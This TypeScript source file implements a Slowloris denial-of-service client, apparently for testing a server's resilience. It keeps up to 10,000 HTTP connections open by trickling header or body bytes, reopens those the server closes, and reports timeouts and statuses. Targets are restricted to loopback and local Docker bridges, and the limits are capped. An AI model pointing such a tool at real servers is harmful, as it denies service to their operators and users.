import { BlockList, connect, isIP, type Socket } from "node:net";
import { networkInterfaces } from "node:os";
import { keep } from "./report";
import { requireWithin } from "./run";

const MOST_CONNECTIONS = 10_000;
const MOST_SECONDS = 60;
const MOST_REOPEN = 1000;
const DEFAULT_REOPEN = 10;
/**
 * At most 6,000 bytes a connection in the longest attack: below the 8 KiB that nginx takes for a line of a header, and below the
 * length that the body is said to have. So a server can only tire of the time, never of the size.
 */
const LEAST_BYTE_PAUSE_MS = 10;
const MOST_BYTE_PAUSE_MS = 60_000;
/** Small enough for any limit of a body's size, large enough never to be reached. */
const BODY_BYTES = 16 * 1024;
/** Thousands of clients that connect in the same millisecond would overflow the queue of the listening socket. */
const START_APART_MS = 0.5;
/** A server that closes at once must not turn the attack into a busy loop. */
const REST_BEFORE_REOPEN_MS = 100;
/** `HTTP/1.1 408` */
const STATUS_CHARACTERS = 12;

const LOOPBACK = new Set(["127.0.0.1", "::1", "localhost"]);
/** The names that Docker itself gives: not `br-lan` or `br0`, behind which others live. */
const DOCKER_BRIDGE = /^(docker0|docker_gwbridge|br-[0-9a-f]{12})$/;

export interface SlowLorisOptions {
  /** http:// only, on this machine only: the loopback, or an address on a bridge that Docker made here. */
  url: string;
  /** Kept open side by side; 1 to 10,000. */
  connections: number;
  /** The attack ends by itself then; at most 60. */
  seconds: number;
  /** Time between two bytes of a connection; 10 to 60,000. */
  bytePauseMs: number;
  /** What comes byte by byte and never to its end: a request's header, or the body of a POST whose header was sent whole. */
  part: "header" | "body";
  /** How often one of the `connections` is opened anew after it was closed or refused. Default 10. */
  reopen?: number;
}

/** A connection that the server closed. */
export interface SlowClose {
  afterSeconds: number;
  /** Of the answer, such as 408, if one came before the close. */
  status: number | undefined;
  /** `FIN`, or the error's code: ECONNRESET, EPIPE. */
  how: string;
}

/** `opened` is always `closedByServer` plus `stillOpen`. */
export interface SlowLorisReport {
  /** Connections that were made, those made anew included. */
  opened: number;
  closedByServer: number;
  /** The first 1000 connections that the server closed. */
  closes: SlowClose[];
  /** The shortest and the longest life among all that the server closed; absent if it closed none. */
  closedAfterSeconds?: { least: number; most: number };
  /** Connections by the status of their answer, whether they were closed after it or not. */
  answers: Record<string, number>;
  /** Attempts that came to no connection. */
  refused: number;
  /** Attempts under way at the end. */
  connecting: number;
  stillOpen: number;
}

export interface SlowLoris {
  /** Resolves at the end, when no socket and no timer is left: after `seconds`, at stop(), or when nothing may be opened anew. */
  readonly done: Promise<SlowLorisReport>;
  /** What was seen so far; it changes until `done`. */
  readonly report: SlowLorisReport;
  /** Ends the attack now. May be called again, with the same report. */
  stop(): Promise<SlowLorisReport>;
}

/**
 * A hostile client: many connections on which a request never comes to its end, since it costs the client next to nothing and
 * the server a connection each. What the server closes is opened anew, so that the pressure stays.
 */
export function slowLoris(options: SlowLorisOptions): SlowLoris {
  return new Attack(options);
}

/** Whether an attack on this host stays on this machine. */
export function isOnThisMachine(host: string, interfaces = networkInterfaces()): boolean {
  if (LOOPBACK.has(host)) return true;
  const family = isIP(host) === 6 ? "IPv6" : "IPv4";
  return Object.entries(interfaces)
    .filter(([name]) => DOCKER_BRIDGE.test(name))
    .flatMap(([, addresses]) => addresses ?? [])
    .some((address) => address.family === family && address.cidr !== null && contains(address.cidr, host));
}

function contains(cidr: string, host: string): boolean {
  const family = isIP(host) === 6 ? "ipv6" : "ipv4";
  const [network = "", prefix] = cidr.split("/");
  const addresses = new BlockList();
  addresses.addSubnet(network, Number(prefix), family);
  return isIP(host) !== 0 && addresses.check(host, family);
}

interface Target {
  host: string;
  port: number;
  /** Sent whole as soon as the connection stands. */
  start: string;
  /** Sent byte by byte after it, then without end `a`. */
  slow: string;
}

function targetOf({ url, part }: SlowLorisOptions): Target {
  const { protocol, hostname, port, host, pathname, search } = new URL(url);
  if (protocol !== "http:") throw new Error(`the attack speaks http: only, not '${url}'`);
  const bare = hostname.replace(/^\[|\]$/g, "");
  if (!isOnThisMachine(bare))
    throw new Error(
      `the attack goes to 127.0.0.1, ::1, localhost or an address on a Docker bridge of this machine only, not to '${bare}'`,
    );
  const head = (method: string) => `${method} ${pathname}${search} HTTP/1.1\r\nHost: ${host}\r\n`;
  const post = `${head("POST")}Content-Type: application/octet-stream\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;
  const sent = part === "body" ? { start: post, slow: "" } : { start: "", slow: `${head("GET")}X-Slow: ` };
  return { host: bare, port: Number(port || 80), ...sent };
}

class Attack implements SlowLoris {
  readonly done: Promise<SlowLorisReport>;
  readonly report: SlowLorisReport = {
    opened: 0,
    closedByServer: 0,
    closes: [],
    answers: {},
    refused: 0,
    connecting: 0,
    stillOpen: 0,
  };
  private readonly places: Place[];
  private readonly limit: NodeJS.Timeout;

  constructor(options: SlowLorisOptions) {
    const { connections, seconds, bytePauseMs, reopen = DEFAULT_REOPEN } = options;
    const target = targetOf(options);
    requireWithin("connections", connections, 1, MOST_CONNECTIONS);
    requireWithin("seconds", seconds, 0, MOST_SECONDS);
    requireWithin("bytePauseMs", bytePauseMs, LEAST_BYTE_PAUSE_MS, MOST_BYTE_PAUSE_MS);
    requireWithin("reopen", reopen, 0, MOST_REOPEN);
    this.places = Array.from(
      { length: connections },
      (_, index) => new Place(this.report, target, bytePauseMs, 1 + reopen, index * START_APART_MS),
    );
    this.limit = setTimeout(() => this.halt(), seconds * 1000);
    this.done = Promise.all(this.places.map((place) => place.left)).then(() => {
      clearTimeout(this.limit);
      return this.report;
    });
  }

  stop(): Promise<SlowLorisReport> {
    this.halt();
    return this.done;
  }

  private halt(): void {
    for (const place of this.places) place.leave();
  }
}

/** One of the connections that are kept open side by side: a socket, and another one after the server closed it. */
class Place {
  /** Resolves when the place holds no socket and no timer any more. */
  readonly left: Promise<void>;
  private resolveLeft: () => void = () => {};
  private leaving = false;
  private socket: Socket | undefined;
  /** Of the next opening, or of the next byte: never both. */
  private timer: NodeJS.Timeout;
  /** On the monotonic clock, once the present socket is connected. */
  private openedAt: number | undefined;
  /** Whether the end of the present socket is noted already: it shows in several events. */
  private lost = false;
  /** Bytes sent one by one on the present socket. */
  private sent = 0;
  /** The first characters of what the server answered on the present socket. */
  private answer = "";

  constructor(
    private readonly report: SlowLorisReport,
    private readonly target: Target,
    private readonly bytePauseMs: number,
    private attemptsLeft: number,
    startInMs: number,
  ) {
    this.left = new Promise((resolve) => {
      this.resolveLeft = resolve;
    });
    this.timer = setTimeout(() => this.open(), startInMs);
  }

  leave(): void {
    if (this.leaving) return;
    this.leaving = true;
    clearTimeout(this.timer);
    if (this.socket === undefined) this.resolveLeft();
    // A reset, since thousands of ports of ours would stay in TIME_WAIT otherwise.
    else if (this.openedAt !== undefined) this.socket.resetAndDestroy();
    else {
      if (!this.lost) this.report.connecting += 1;
      this.socket.destroy();
    }
  }

  private open(): void {
    const { host, port } = this.target;
    this.attemptsLeft -= 1;
    this.openedAt = undefined;
    this.lost = false;
    this.sent = 0;
    this.answer = "";
    // A second address tried in silence would be an attempt that is not counted.
    const socket = connect({ host, port, noDelay: true, autoSelectFamily: false });
    this.socket = socket;
    socket.on("connect", () => this.onConnect(socket));
    socket.on("data", (chunk) => this.onData(chunk));
    socket.on("end", () => {
      this.onLost("FIN");
      socket.destroy();
    });
    socket.on("error", (error: NodeJS.ErrnoException) => this.onLost(error.code ?? error.message));
    socket.on("close", () => this.onClose());
  }

  private onConnect(socket: Socket): void {
    this.openedAt = performance.now();
    this.report.opened += 1;
    this.report.stillOpen += 1;
    if (this.target.start !== "") socket.write(this.target.start, "latin1");
    this.sendByte(socket);
    this.timer = setInterval(() => this.sendByte(socket), this.bytePauseMs);
  }

  private sendByte(socket: Socket): void {
    socket.write(this.target.slow[this.sent] ?? "a", "latin1");
    this.sent += 1;
  }

  private onData(chunk: Buffer): void {
    if (this.answer.length >= STATUS_CHARACTERS) return;
    this.answer = (this.answer + chunk.toString("latin1")).slice(0, STATUS_CHARACTERS);
    const { answers } = this.report;
    const status = this.status();
    if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1;
  }

  private status(): number | undefined {
    const digits = /^HTTP\/1\.[01] (\d{3})$/.exec(this.answer)?.[1];
    return digits === undefined ? undefined : Number(digits);
  }

  /** The end of the present socket as the server brought it about; ours is no news. */
  private onLost(how: string): void {
    if (this.leaving || this.lost) return;
    this.lost = true;
    clearTimeout(this.timer);
    const { report, openedAt } = this;
    if (openedAt === undefined) {
      report.refused += 1;
      return;
    }
    const afterSeconds = Math.round(performance.now() - openedAt) / 1000;
    const { least, most } = report.closedAfterSeconds ?? { least: afterSeconds, most: afterSeconds };
    report.closedAfterSeconds = { least: Math.min(least, afterSeconds), most: Math.max(most, afterSeconds) };
    report.stillOpen -= 1;
    report.closedByServer += 1;
    keep(report.closes, { afterSeconds, status: this.status(), how });
  }

  private onClose(): void {
    this.onLost("closed");
    this.socket = undefined;
    if (this.leaving || this.attemptsLeft <= 0) this.resolveLeft();
    else this.timer = setTimeout(() => this.open(), REST_BEFORE_REOPEN_MS);
  }
}
